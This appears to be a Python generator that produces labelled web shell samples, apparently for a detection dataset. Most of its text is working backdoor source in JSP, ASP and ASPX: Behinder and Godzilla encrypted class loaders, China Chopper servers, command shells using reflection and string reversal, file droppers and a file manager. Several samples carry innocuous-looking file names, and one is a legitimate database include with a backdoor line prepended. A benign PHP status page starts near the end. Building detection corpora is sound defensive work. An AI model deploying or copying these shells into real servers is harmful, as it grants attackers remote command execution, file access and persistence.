<form method="POST"><input type="text" name="{{k}}" size="80"><input type="submit" value="Run"></form>
<%
    String cmd = request.getParameter("{{k}}");
    if (cmd != null && cmd.length() > 0) {
        List<String> argv = new ArrayList<String>();
        if (System.getProperty("os.name").toLowerCase().contains("win")) {
            argv.add("cmd.exe"); argv.add("/c");
        } else {
            argv.add("/bin/sh"); argv.add("-c");
        }
        argv.add(cmd);
        ProcessBuilder pb = new ProcessBuilder(argv);
        pb.redirectErrorStream(true);
        Process proc = pb.start();
        InputStream in = proc.getInputStream();
        ByteArrayOutputStream buf = new ByteArrayOutputStream();
        byte[] b = new byte[4096];
        int n;
        while ((n = in.read(b)) != -1) {
            buf.write(b, 0, n);
        }
        out.print("<pre>" + new String(buf.toByteArray(), "GBK") + "</pre>");
    }
%>
</body></html>
""", k=k)
    return ("test.jsp", "jsp", "jsp-processbuilder",
            "ProcessBuilder cmd.exe /c or /bin/sh -c with a form, GBK output", text)


def j_behinder(r):
    key = md5hex(ident(r, 8).lower())[:16]
    cls = ident(r, 1).upper()
    text = T("""<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class {{c}} extends ClassLoader{{{c}}(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.getMethod().equals("POST")){String k="{{key}}";session.putValue("u",k);Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new {{c}}(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>
""", c=cls, key=key)
    return ("login_bak.jsp", "jsp", "behinder-v3-jsp",
            "Behinder v3 JSP: AES-decrypts POST body, defineClass via ClassLoader subclass, equals(pageContext)", text)


def j_behinder_reflect(r):
    key = md5hex(ident(r, 8).lower())[:16]
    text = T("""<%@ page import="java.lang.reflect.Method,javax.crypto.Cipher,javax.crypto.spec.SecretKeySpec" %>
<%
    if ("POST".equalsIgnoreCase(request.getMethod())) {
        String k = "{{key}}";
        session.setAttribute("u", k);
        java.io.BufferedReader rd = request.getReader();
        StringBuilder sb = new StringBuilder();
        String ln;
        while ((ln = rd.readLine()) != null) sb.append(ln);
        byte[] enc = java.util.Base64.getDecoder().decode(sb.toString());
        Cipher ci = Cipher.getInstance("AES/ECB/PKCS5Padding");
        ci.init(Cipher.DECRYPT_MODE, new SecretKeySpec(k.getBytes(), "AES"));
        byte[] cls = ci.doFinal(enc);
        Method dm = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
        dm.setAccessible(true);
        ClassLoader cl = new java.net.URLClassLoader(new java.net.URL[0], Thread.currentThread().getContextClassLoader());
        Class<?> c = (Class<?>) dm.invoke(cl, cls, 0, cls.length);
        c.newInstance().equals(pageContext);
    }
%>
""", key=key)
    return ("error.jsp", "jsp", "behinder-jsp-reflective-defineClass",
            "Behinder-style AES class loader using reflective ClassLoader.defineClass and java.util.Base64", text)


GODZILLA_JSP = """<%! String xc = "{{key}}";
    String pass = "{{pass}}";
    String md5 = md5(pass + xc);

    class X extends ClassLoader {
        public X(ClassLoader z) { super(z); }
        public Class Q(byte[] cb) { return super.defineClass(cb, 0, cb.length); }
    }

    public byte[] x(byte[] s, boolean m) {
        try {
            javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES");
            c.init(m ? 1 : 2, new javax.crypto.spec.SecretKeySpec(xc.getBytes(), "AES"));
            return c.doFinal(s);
        } catch (Exception e) {
            return null;
        }
    }

    public static String md5(String s) {
        String ret = null;
        try {
            java.security.MessageDigest m = java.security.MessageDigest.getInstance("MD5");
            m.update(s.getBytes(), 0, s.length());
            ret = new java.math.BigInteger(1, m.digest()).toString(16).toUpperCase();
        } catch (Exception e) {
        }
        return ret;
    }
%>"""


def j_godzilla_b64(r):
    key = md5hex(ident(r, 6))[:16]
    p = pw(r)
    text = T(GODZILLA_JSP + """<%
    try {
        byte[] data = java.util.Base64.getDecoder().decode(request.getParameter(pass));
        data = x(data, false);
        if (session.getAttribute("payload") == null) {
            session.setAttribute("payload", new X(this.getClass().getClassLoader()).Q(data));
        } else {
            request.setAttribute("parameters", data);
            java.io.ByteArrayOutputStream arrOut = new java.io.ByteArrayOutputStream();
            Object f = ((Class) session.getAttribute("payload")).newInstance();
            f.equals(arrOut);
            f.equals(pageContext);
            response.getWriter().write(md5.substring(0, 16));
            f.toString();
            response.getWriter().write(java.util.Base64.getEncoder().encodeToString(x(arrOut.toByteArray(), true)));
            response.getWriter().write(md5.substring(16));
        }
    } catch (Exception e) {
    }
%>
""", key=key, **{"pass": p})
    return ("check.jsp", "jsp", "godzilla-java-aes-base64",
            "Godzilla JAVA_AES_BASE64 JSP: AES class bytes in session, md5 response markers", text)


def j_godzilla_raw(r):
    key = md5hex(ident(r, 6))[:16]
    p = pw(r)
    text = T(GODZILLA_JSP + """<%
    try {
        int len = request.getContentLength();
        byte[] data = new byte[len];
        int got = 0;
        java.io.InputStream is = request.getInputStream();
        while (got < len) {
            int n = is.read(data, got, len - got);
            if (n < 0) break;
            got += n;
        }
        data = x(data, false);
        if (session.getAttribute("payload") == null) {
            session.setAttribute("payload", new X(this.getClass().getClassLoader()).Q(data));
        } else {
            request.setAttribute("parameters", data);
            Object f = ((Class) session.getAttribute("payload")).newInstance();
            java.io.ByteArrayOutputStream arrOut = new java.io.ByteArrayOutputStream();
            f.equals(arrOut);
            f.equals(pageContext);
            f.toString();
            response.getOutputStream().write(x(arrOut.toByteArray(), true));
        }
    } catch (Exception e) {
    }
%>
""", key=key, **{"pass": p})
    return ("status.jsp", "jsp", "godzilla-java-aes-raw",
            "Godzilla JAVA_AES_RAW JSP reading raw request body", text)


def j_scriptengine(r):
    k = pw(r)
    text = T("""<%@ page import="javax.script.*" %><%
    ScriptEngine se = new ScriptEngineManager().getEngineByName("js");
    se.put("request", request);
    se.put("response", response);
    Object ret = se.eval(request.getParameter("{{k}}"));
    if (ret != null) out.print(ret);
%>
""", k=k)
    return ("js.jsp", "jsp", "jsp-scriptengine",
            "javax.script ScriptEngine 'js' eval of request parameter", text)


def j_reflect_runtime(r):
    k = pw(r)
    text = T("""<%@ page import="java.lang.reflect.*,java.util.Scanner" %>
<%!
    static String rv(String s) { return new StringBuilder(s).reverse().toString(); }
%>
<%
    String a = request.getParameter("{{k}}");
    if (a != null) {
        Class<?> rt = Class.forName(rv("emitnuR.gnal.avaj"));
        Object o = rt.getMethod(rv("emitnuRteg")).invoke(null);
        Process p = (Process) rt.getMethod(rv("cexe"), String[].class).invoke(o, new Object[]{new String[]{"/bin/bash", "-c", a}});
        Scanner sc = new Scanner(p.getInputStream()).useDelimiter("\\\\A");
        out.print(sc.hasNext() ? sc.next() : "");
    }
%>
""", k=k)
    return ("monitor.jsp", "jsp", "jsp-reflection-runtime",
            "Runtime.exec reached by reflection with reversed class/method name strings", text)


def j_jspx_cmd(r):
    k = pw(r)
    text = T("""<?xml version="1.0" encoding="UTF-8"?>
<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">
  <jsp:directive.page contentType="text/html;charset=UTF-8" import="java.io.*"/>
  <jsp:scriptlet><![CDATA[
    String c = request.getParameter("{{k}}");
    if (c != null && c.length() > 0) {
        String[] cmd = System.getProperty("os.name").startsWith("Windows")
            ? new String[]{"cmd.exe", "/c", c} : new String[]{"/bin/sh", "-c", c};
        Process p = Runtime.getRuntime().exec(cmd);
        BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));
        String l;
        while ((l = br.readLine()) != null) { out.println(l); }
    }
  ]]></jsp:scriptlet>
</jsp:root>
""", k=k)
    return ("web.jspx", "jspx", "jspx-runtime-exec",
            "JSPX (XML syntax) Runtime.exec shell inside a CDATA scriptlet", text)


def j_jspx_behinder(r):
    key = md5hex(ident(r, 8).lower())[:16]
    text = T("""<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2">
<jsp:directive.page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"/>
<jsp:declaration> class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}</jsp:declaration>
<jsp:scriptlet>String k="{{key}}";session.putValue("u",k);Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec((session.getValue("u")+"").getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);</jsp:scriptlet>
</jsp:root>
""", key=key)
    return ("upload.jspx", "jspx", "behinder-jspx",
            "Behinder JSPX: jsp:declaration ClassLoader subclass + AES defineClass in jsp:scriptlet", text)


def j_writer(r):
    f, t = pw(r), pw(r)
    text = T("""<%@ page import="java.io.*" %><%
String f = request.getParameter("{{f}}");
String t = request.getParameter("{{t}}");
if (f != null && t != null) {
    File out2 = new File(f.startsWith("/") || f.indexOf(':') == 1 ? f : application.getRealPath("/") + f);
    FileOutputStream fos = new FileOutputStream(out2);
    fos.write(t.getBytes("UTF-8"));
    fos.close();
    out.print("ok " + out2.getAbsolutePath());
}
%>
""", f=f, t=t)
    return ("save.jsp", "jsp", "jsp-file-writer",
            "writes request text to an attacker-chosen path under or outside the webroot", text)


def j_chopper_customize(r):
    k = pw(r)
    text = T("""<%@ page import="java.io.*,java.util.*,java.sql.*" pageEncoding="UTF-8" %>
<%!
    String EC(String s, String c) throws Exception { return new String(s.getBytes("ISO-8859-1"), c); }

    void AA(StringBuffer sb) throws Exception {
        File r[] = File.listRoots();
        for (int i = 0; i < r.length; i++) sb.append(r[i].toString().substring(0, 2));
    }

    void BB(String s, StringBuffer sb) throws Exception {
        File oF = new File(s), l[] = oF.listFiles();
        java.text.SimpleDateFormat fm = new java.text.SimpleDateFormat("yyyy-MM-dd HH:mm:ss");
        for (int i = 0; i < l.length; i++) {
            String nm = l[i].getName() + (l[i].isDirectory() ? "/" : "");
            sb.append(nm + "\\t" + fm.format(new java.util.Date(l[i].lastModified())) + "\\t" + l[i].length() + "\\n");
        }
    }

    void EE(String s, StringBuffer sb) throws Exception {
        BufferedReader br = new BufferedReader(new InputStreamReader(new FileInputStream(new File(s))));
        String l;
        while ((l = br.readLine()) != null) sb.append(l + "\\r\\n");
        br.close();
    }

    void FF(String s, String d, StringBuffer sb) throws Exception {
        FileOutputStream os = new FileOutputStream(new File(s));
        os.write(d.getBytes("UTF-8"));
        os.close();
        sb.append("1");
    }

    void MM(String s, StringBuffer sb) throws Exception {
        Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", s});
        BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));
        String l;
        while ((l = br.readLine()) != null) sb.append(l + "\\r\\n");
    }
%>
<%
    String cs = request.getParameter("z0") == null ? "UTF-8" : request.getParameter("z0");
    response.setContentType("text/html;charset=" + cs);
    String Z = EC(request.getParameter("{{k}}") + "", cs);
    String z1 = EC(request.getParameter("z1") + "", cs);
    String z2 = EC(request.getParameter("z2") + "", cs);
    StringBuffer sb = new StringBuffer("");
    try {
        sb.append("->" + "|");
        if (Z.equals("A")) {
            sb.append(application.getRealPath(request.getServletPath()) + "\\t");
            AA(sb);
        } else if (Z.equals("B")) {
            BB(z1, sb);
        } else if (Z.equals("E")) {
            EE(z1, sb);
        } else if (Z.equals("F")) {
            FF(z1, z2, sb);
        } else if (Z.equals("M")) {
            MM(z2, sb);
        }
    } catch (Exception e) {
        sb.append("ERROR" + ":// " + e.toString());
    }
    sb.append("|" + "<-");
    out.print(sb.toString());
%>
""", k=k)
    return ("customize.jsp", "jsp", "chopper-jsp-customize",
            "China Chopper 'customize' JSP server: A/B/E/F/M actions (info, list, read, write, exec)", text)


def j_unicode(r):
    k = pw(r)
    body = T("""
    java.io.InputStream in = Runtime.getRuntime().exec(request.getParameter("{{k}}")).getInputStream();
    int a = -1;
    byte[] b = new byte[2048];
    out.print("<pre>");
    while ((a = in.read(b)) != -1) {
        out.println(new String(b, 0, a));
    }
    out.print("</pre>");
""", k=k)
    text = "<%" + java_unicode_escape(body) + "%>\n"
    return ("404.jsp", "jsp", "jsp-unicode-escaped",
            "Runtime.exec cmd shell with every scriptlet character written as a \\uXXXX escape", text)


def j_urlclassloader(r):
    u, c, a = pw(r), pw(r), pw(r)
    text = T("""<%@ page import="java.net.*" %><%
    String u = request.getParameter("{{u}}");
    if (u != null) {
        URLClassLoader ucl = new URLClassLoader(new URL[]{new URL(u)}, this.getClass().getClassLoader());
        Class<?> c = ucl.loadClass(request.getParameter("{{c}}"));
        Object o = c.getConstructor(String.class).newInstance(request.getParameter("{{a}}"));
        out.print(o.toString());
    }
%>
""", u=u, c=c, a=a)
    return ("plugin.jsp", "jsp", "jsp-urlclassloader",
            "loads an attacker-hosted jar through URLClassLoader and instantiates a named class", text)


def j_el(r):
    k = pw(r)
    text = T("""<%@ page contentType="text/html;charset=UTF-8" isELIgnored="false" %>
<html><head><title>Help</title></head><body>
${"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval(param["{{k}}"])}
</body></html>
""", k=k)
    return ("help.jsp", "jsp", "jsp-el-scriptengine",
            "EL expression reaching ScriptEngineManager via getClass().forName, evals param", text)


def j_processimpl(r):
    k = pw(r)
    text = T("""<%@ page import="java.lang.reflect.Method,java.util.Map,java.io.*" %><%
    String c = request.getParameter("{{k}}");
    if (c != null) {
        Class<?> pi = Class.forName("java.lang.ProcessImpl");
        Method st = pi.getDeclaredMethod("start", String[].class, Map.class, String.class, ProcessBuilder.Redirect[].class, boolean.class);
        st.setAccessible(true);
        Process p = (Process) st.invoke(null, new String[]{"/bin/sh", "-c", c}, null, null, null, true);
        InputStream is = p.getInputStream();
        ByteArrayOutputStream bo = new ByteArrayOutputStream();
        int n;
        byte[] buf = new byte[1024];
        while ((n = is.read(buf)) > 0) bo.write(buf, 0, n);
        out.print(bo.toString());
    }
%>
""", k=k)
    return ("sys.jsp", "jsp", "jsp-processimpl-reflection",
            "java.lang.ProcessImpl.start invoked reflectively (bypasses Runtime/ProcessBuilder hooks)", text)


def j_b64cmd(r):
    k = pw(r)
    text = T("""<%@ page import="java.io.*" %>
<%
    String x = request.getParameter("{{k}}");
    if (x != null) {
        String c = new String(java.util.Base64.getDecoder().decode(x), "UTF-8");
        String[] arr = {"/bin/sh", "-c", c};
        Process p = Runtime.getRuntime().exec(arr);
        BufferedReader in = new BufferedReader(new InputStreamReader(p.getInputStream()));
        BufferedReader er = new BufferedReader(new InputStreamReader(p.getErrorStream()));
        String s;
        while ((s = in.readLine()) != null) out.println(s);
        while ((s = er.readLine()) != null) out.println(s);
    }
%>
""", k=k)
    return ("data.jsp", "jsp", "jsp-base64-cmd",
            "base64-encoded command parameter run with /bin/sh -c", text)


def j_bcel(r):
    k = pw(r)
    text = T("""<%
    String b = request.getParameter("{{k}}");
    if (b != null && b.startsWith("$$BCEL$$")) {
        ClassLoader bl = (ClassLoader) Class.forName("com.sun.org.apache.bcel.internal.util.ClassLoader").newInstance();
        Object o = bl.loadClass(b).newInstance();
        out.print(o);
    }
%>
""", k=k)
    return ("ping.jsp", "jsp", "jsp-bcel-classloader",
            "BCEL ClassLoader loads a $$BCEL$$-encoded class from the request (JDK < 8u251)", text)


def j_filemanager(r):
    pwd = ident(r, 8)
    text = T("""<%@ page import="java.io.*,java.util.*" contentType="text/html;charset=UTF-8" %>
<%!
    static final String PW = "{{pwd}}";

    String exec(String c) throws IOException {
        boolean win = System.getProperty("os.name").toLowerCase().startsWith("win");
        Process p = Runtime.getRuntime().exec(win ? new String[]{"cmd", "/c", c} : new String[]{"sh", "-c", c});
        StringBuilder sb = new StringBuilder();
        BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));
        String l;
        while ((l = br.readLine()) != null) sb.append(l).append('\\n');
        return sb.toString();
    }

    String esc(String s) {
        return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;");
    }
%>
<%
    if (!PW.equals(session.getAttribute("fm"))) {
        if (PW.equals(request.getParameter("pw"))) {
            session.setAttribute("fm", PW);
        } else {
            out.print("<form method='post'><input type='password' name='pw'><input type='submit'></form>");
            return;
        }
    }
    String act = request.getParameter("act");
    String path = request.getParameter("path");
    if (path == null) path = application.getRealPath("/");
    if ("cmd".equals(act)) {
        out.print("<pre>" + esc(exec(request.getParameter("c"))) + "</pre>");
    } else if ("read".equals(act)) {
        BufferedReader br = new BufferedReader(new FileReader(path));
        String l;
        out.print("<pre>");
        while ((l = br.readLine()) != null) out.println(esc(l));
        out.print("</pre>");
        br.close();
    } else if ("write".equals(act)) {
        FileWriter fw = new FileWriter(path);
        fw.write(request.getParameter("body"));
        fw.close();
        out.print("saved");
    } else if ("del".equals(act)) {
        out.print(new File(path).delete());
    } else {
        File[] fs = new File(path).listFiles();
        out.print("<h3>" + esc(path) + "</h3><ul>");
        if (fs != null) for (File f : fs) {
            out.print("<li><a href='?path=" + java.net.URLEncoder.encode(f.getAbsolutePath(), "UTF-8") + (f.isDirectory() ? "" : "&act=read") + "'>" + esc(f.getName()) + "</a> " + f.length() + "</li>");
        }
        out.print("</ul><form method='post'><input type='hidden' name='act' value='cmd'><input name='c' size='80'><input type='submit' value='exec'></form>");
    }
%>
""", pwd=pwd)
    return ("manager.jsp", "jsp", "jsp-filemanager",
            "password-gated JSP file manager: list/read/write/delete files and run commands", text)


JSP_SAMPLES = [
    j_runtime, j_processbuilder, j_behinder, j_behinder_reflect, j_godzilla_b64, j_godzilla_raw,
    j_scriptengine, j_reflect_runtime, j_jspx_cmd, j_jspx_behinder, j_writer, j_chopper_customize,
    j_unicode, j_urlclassloader, j_el, j_processimpl, j_b64cmd, j_bcel, j_filemanager,
]


def a_eval(r):
    k = pw(r)
    return ("sys.asp", "asp", "asp-eval-oneliner", "classic ASP one-liner <%eval request(k)%>",
            T('<%eval request("{{k}}")%>\n', k=k))


def a_conn_injected(r):
    k = pw(r)
    text = T("""<%if request("{{k}}")<>"" then execute(request("{{k}}"))%>
<%
Dim conn, connstr, db
db = "data/#data.mdb"
Set conn = Server.CreateObject("ADODB.Connection")
connstr = "Provider=Microsoft.Jet.OLEDB.4.0;Data Source=" & Server.MapPath(db)
conn.Open connstr
%>
""", k=k)
    return ("conn.asp", "asp", "asp-execute-injected",
            "legit Access DB include file with an execute(request(k)) line prepended", text)


def a_hex_executeglobal(r):
    k = pw(r)
    f = ident(r, 5)
    text = T("""<%@LANGUAGE="VBSCRIPT" CODEPAGE="936"%>
<%
Function {{f}}(s)
  Dim i, o
  For i = 1 To Len(s) Step 2
    o = o & Chr(CLng("&H" & Mid(s, i, 2)))
  Next
  {{f}} = o
End Function
If Request.Form("{{k}}") <> "" Then ExecuteGlobal {{f}}(Request.Form("{{k}}"))
%>
""", f=f, k=k)
    return ("dv_news.asp", "asp", "asp-hex-executeglobal",
            "VBScript ExecuteGlobal of a hex-decoded form field (AntSword/Chopper hex encoder receiver)", text)


def a_wscript(r):
    k = pw(r)
    text = T("""<%
Dim sh, ex, c
c = Request("{{k}}")
If c <> "" Then
    Set sh = Server.CreateObject("WScript.Shell")
    Set ex = sh.Exec("cmd.exe /c " & c)
    Response.Write "<pre>" & Server.HTMLEncode(ex.StdOut.ReadAll()) & "</pre>"
End If
%>
<form method="post"><input name="{{k}}" size="60"><input type="submit" value="Go"></form>
""", k=k)
    return ("cmd.asp", "asp", "asp-wscript-shell",
            "WScript.Shell Exec of cmd.exe /c request value", text)


def a_jscript_asp(r):
    k = pw(r)
    text = T("""<%@ LANGUAGE="JScript" %>
<%
var s = Request.Item("{{k}}") + "";
if (s != "undefined" && s != "") {
    eval(s);
}
%>
""", k=k)
    return ("log.asp", "asp", "asp-jscript-eval",
            "classic ASP in JScript: eval(Request.Item(k))", text)


def a_chopper_aspx(r):
    k = pw(r)
    return ("1.aspx", "aspx", "chopper-aspx-jscript",
            "China Chopper ASPX one-liner: JScript.NET eval(Request.Item[k],\"unsafe\")",
            T('<%@ Page Language="Jscript"%><%eval(Request.Item["{{k}}"],"unsafe");%>\n', k=k))


def a_aspx_b64(r):
    k = pw(r)
    text = T("""<%@ Page Language="JScript" validateRequest="false" %>
<%
var d = System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(Request.Form["{{k}}"]));
eval(d, "unsafe");
%>
""", k=k)
    return ("ws.aspx", "aspx", "aspx-jscript-base64-eval",
            "JScript.NET eval of base64-decoded (GBK) form field", text)


def a_behinder_aspx(r):
    key = md5hex(ident(r, 8).lower())[:16]
    text = T("""<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%
    Session.Add("k", "{{key}}");
    byte[] kk = Encoding.Default.GetBytes(Session[0] + ""),
           body = Request.BinaryRead(Request.ContentLength);
    Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(kk, kk).TransformFinalBlock(body, 0, body.Length)).CreateInstance("U").Equals(this);
%>
""", key=key)
    return ("default2.aspx", "aspx", "behinder-aspx",
            "Behinder ASPX: AES(Rijndael) decrypt of request body, Assembly.Load, CreateInstance(\"U\")", text)


def a_godzilla_aspx(r):
    key = md5hex(ident(r, 6))[:16]
    p = pw(r)
    text = T("""<%@ Page Language="C#"%><%
try {
    string key = "{{key}}";
    string pass = "{{p}}";
    string md5 = System.BitConverter.ToString(new System.Security.Cryptography.MD5CryptoServiceProvider().ComputeHash(System.Text.Encoding.Default.GetBytes(pass + key))).Replace("-", "");
    byte[] data = System.Convert.FromBase64String(Context.Request[pass]);
    data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(data, 0, data.Length);
    if (Context.Session["payload"] == null) {
        Context.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data });
    } else {
        System.IO.MemoryStream outStream = new System.IO.MemoryStream();
        object o = ((System.Reflection.Assembly)Context.Session["payload"]).CreateInstance("LY");
        o.Equals(Context);
        o.Equals(outStream);
        o.Equals(data);
        o.ToString();
        byte[] r = outStream.ToArray();
        Context.Response.Write(md5.Substring(0, 16));
        Context.Response.Write(System.Convert.ToBase64String(new System.Security.Cryptography.RijndaelManaged().CreateEncryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(r, 0, r.Length)));
        Context.Response.Write(md5.Substring(16));
    }
} catch (System.Exception) {
}
%>
""", key=key, p=p)
    return ("global.aspx", "aspx", "godzilla-csharp-aes-base64",
            "Godzilla CSHARP_AES_BASE64 ASPX: reflective Assembly.Load into Session, CreateInstance(\"LY\")", text)


def a_godzilla_ashx(r):
    key = md5hex(ident(r, 6))[:16]
    p = pw(r)
    text = T("""<%@ WebHandler Language="C#" Class="Handler" %>
using System;
using System.Web;
using System.Web.SessionState;
using System.Reflection;
using System.Security.Cryptography;
using System.Text;

public class Handler : IHttpHandler, IRequiresSessionState
{
    public void ProcessRequest(HttpContext ctx)
    {
        try
        {
            string key = "{{key}}";
            string pass = "{{p}}";
            string md5 = BitConverter.ToString(new MD5CryptoServiceProvider().ComputeHash(Encoding.Default.GetBytes(pass + key))).Replace("-", "");
            byte[] kb = Encoding.Default.GetBytes(key);
            byte[] data = Convert.FromBase64String(ctx.Request[pass]);
            data = new RijndaelManaged().CreateDecryptor(kb, kb).TransformFinalBlock(data, 0, data.Length);
            if (ctx.Session["payload"] == null)
            {
                ctx.Session["payload"] = Assembly.Load(data);
            }
            else
            {
                System.IO.MemoryStream ms = new System.IO.MemoryStream();
                object o = ((Assembly)ctx.Session["payload"]).CreateInstance("LY");
                o.Equals(ctx);
                o.Equals(ms);
                o.Equals(data);
                o.ToString();
                byte[] r = ms.ToArray();
                ctx.Response.Write(md5.Substring(0, 16));
                ctx.Response.Write(Convert.ToBase64String(new RijndaelManaged().CreateEncryptor(kb, kb).TransformFinalBlock(r, 0, r.Length)));
                ctx.Response.Write(md5.Substring(16));
            }
        }
        catch (Exception)
        {
        }
    }

    public bool IsReusable
    {
        get { return false; }
    }
}
""", key=key, p=p)
    return ("handler.ashx", "ashx", "godzilla-ashx",
            "Godzilla C# AES shell as a generic handler (.ashx) with IRequiresSessionState", text)


def a_cmd_aspx(r):
    text = """<%@ Page Language="C#" Debug="false" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
string Run(string arg)
{
    ProcessStartInfo psi = new ProcessStartInfo();
    psi.FileName = "cmd.exe";
    psi.Arguments = "/c " + arg;
    psi.RedirectStandardOutput = true;
    psi.RedirectStandardError = true;
    psi.UseShellExecute = false;
    psi.CreateNoWindow = true;
    Process p = Process.Start(psi);
    string o = p.StandardOutput.ReadToEnd() + p.StandardError.ReadToEnd();
    p.WaitForExit();
    return o;
}

void cmdExe_Click(object sender, EventArgs e)
{
    result.Text = "<pre>" + Server.HtmlEncode(Run(txtArg.Text)) + "</pre>";
}
</script>
<html>
<body>
<form id="cmd" method="post" runat="server">
<asp:TextBox id="txtArg" runat="server" Width="400px"></asp:TextBox>
<asp:Button id="btnRun" runat="server" Text="execute" OnClick="cmdExe_Click"></asp:Button>
<asp:Label id="result" runat="server"></asp:Label>
</form>
</body>
</html>
"""
    return ("diag.aspx", "aspx", "aspx-cmd-process",
            "cmdasp-style ASPX: server form, Process.Start cmd.exe /c textbox value", text)


def a_dropper_aspx(r):
    p, d = pw(r), pw(r)
    text = T("""<%@ Page Language="C#" ValidateRequest="false" %>
<%
if (Request["{{p}}"] != null && Request["{{d}}"] != null)
{
    string path = Request["{{p}}"].Contains(":") ? Request["{{p}}"] : Server.MapPath(Request["{{p}}"]);
    System.IO.File.WriteAllBytes(path, Convert.FromBase64String(Request["{{d}}"]));
    Response.Write("OK");
}
%>
""", p=p, d=d)
    return ("up.aspx", "aspx", "aspx-dropper",
            "writes base64-decoded request data to an attacker-chosen path", text)


def a_asmx(r):
    m = r.choice(["Query", "GetData", "Sync", "CheckUpdate"])
    text = T("""<%@ WebService Language="C#" Class="Svc" %>
using System;
using System.Diagnostics;
using System.Web.Services;

[WebService(Namespace = "http://tempuri.org/")]
public class Svc : WebService
{
    [WebMethod]
    public string {{m}}(string q)
    {
        Process p = new Process();
        p.StartInfo.FileName = "cmd.exe";
        p.StartInfo.Arguments = "/c " + q;
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardOutput = true;
        p.Start();
        return p.StandardOutput.ReadToEnd();
    }
}
""", m=m)
    return ("service.asmx", "asmx", "asmx-webmethod-cmd",
            "ASMX web service whose WebMethod runs cmd.exe /c argument", text)


def a_reflect_aspx(r):
    k = pw(r)
    text = T("""<%@ Page Language="C#" %>
<%
string t = Request.Form["{{k}}"];
if (!String.IsNullOrEmpty(t))
{
    char[] ca = ("sse" + "corP.scitsongaiD.metsyS").ToCharArray();
    Array.Reverse(ca);
    System.Reflection.Assembly sys = typeof(Uri).Assembly;
    Type pt = sys.GetType(new string(ca));
    object psi = Activator.CreateInstance(sys.GetType(new string(ca) + "StartInfo"), new object[] { "cmd.exe", "/c " + t });
    psi.GetType().GetProperty("UseShellExecute").SetValue(psi, false, null);
    psi.GetType().GetProperty("RedirectStandardOutput").SetValue(psi, true, null);
    object proc = pt.GetMethod("Start", new Type[] { psi.GetType() }).Invoke(null, new object[] { psi });
    System.IO.StreamReader sr = (System.IO.StreamReader)proc.GetType().GetProperty("StandardOutput").GetValue(proc, null);
    Response.Write("<pre>" + Server.HtmlEncode(sr.ReadToEnd()) + "</pre>");
}
%>
""", k=k)
    return ("report.aspx", "aspx", "aspx-reflection-process",
            "System.Diagnostics.Process reached by reflection from a reversed type name", text)


def a_jscripteval(r):
    k = pw(r)
    text = T("""<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Assembly Name="Microsoft.JScript, Version=10.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a" %>
<%
    string c = Request.Form["{{k}}"];
    if (c != null)
    {
        object ret = Microsoft.JScript.Eval.JScriptEvaluate(c, Microsoft.JScript.Vsa.VsaEngine.CreateEngine());
        Response.Write(ret);
    }
%>
""", k=k)
    return ("view.aspx", "aspx", "aspx-csharp-jscriptevaluate",
            "C# page calling Microsoft.JScript.Eval.JScriptEvaluate on a form field", text)


def a_fso_writer(r):
    f, c = pw(r), pw(r)
    text = T("""<%
If Request("{{f}}") <> "" Then
    Set fso = Server.CreateObject("Scripting.FileSystemObject")
    Set t = fso.CreateTextFile(Server.MapPath(Request("{{f}}")), True)
    t.Write Request("{{c}}")
    t.Close
    Response.Write "ok"
End If
%>
""", f=f, c=c)
    return ("save.asp", "asp", "asp-fso-writer",
            "Scripting.FileSystemObject writes request text to a chosen path (stage-2 dropper)", text)


ASP_SAMPLES = [
    a_eval, a_conn_injected, a_hex_executeglobal, a_wscript, a_jscript_asp, a_chopper_aspx,
    a_aspx_b64, a_behinder_aspx, a_godzilla_aspx, a_godzilla_ashx, a_cmd_aspx, a_dropper_aspx,
    a_asmx, a_reflect_aspx, a_jscripteval, a_fso_writer,
]


def b_server_status(r):
    text = """<?php
/**
 * Server status for the ops dashboard. Fixed commands only; no request input
 * reaches the shell.
 */
require_once __DIR__ . '/../inc/auth.php';
require_admin();

$checks = array(
    'uptime' => '/usr/bin/uptime',
    'disk'   => '/bin/df -h /',
    'memory' => '/usr/bin/free -m',
    'nginx'  => '/bin/systemctl is-active nginx',
);

header('Content-Type: text/html; charset=utf-8');
echo "<h1>Server status</h1>\\n";
foreach ($checks as $label => $cmd) {
    $out = array();
    $rc = 0;
    exec($cmd, $out, $rc);
    echo '<h2>' . htmlspecialchars($label) . ' (rc=' . (int)$rc . ")</h2>\\n";
